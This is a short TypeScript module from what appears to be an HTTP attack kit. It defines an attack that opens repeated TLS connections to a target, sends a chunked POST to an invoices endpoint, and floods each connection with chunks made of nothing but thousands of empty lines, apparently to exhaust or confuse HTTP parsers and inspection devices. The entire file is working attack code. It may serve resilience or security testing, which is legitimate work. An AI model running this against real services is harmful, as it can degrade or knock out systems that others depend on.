import type { Attack } from '../kit/attack.js';
import { head } from '../kit/target.js';

/** An empty line ends a head and a body in chunks, so that the box looks at each of them. */
export const attack: Attack = {
  name: 'bodies in chunks of nothing but empty lines',
  async run(target) {
    const begin = head('POST /api/v1/invoices', 'Transfer-Encoding: chunked');
    const chunk = Buffer.from(`4000\r\n${'\r\n'.repeat(0x2000)}\r\n`);
    await target.repeat(20, async () => {
      const socket = await target.tls();
      socket?.resume().write(begin);
      for (let sent = 0; sent < 250 && socket?.destroyed === false && !target.isOver; sent += 1) {
        await target.push(socket, chunk);
      }
      socket?.destroy();
    });
  },
};
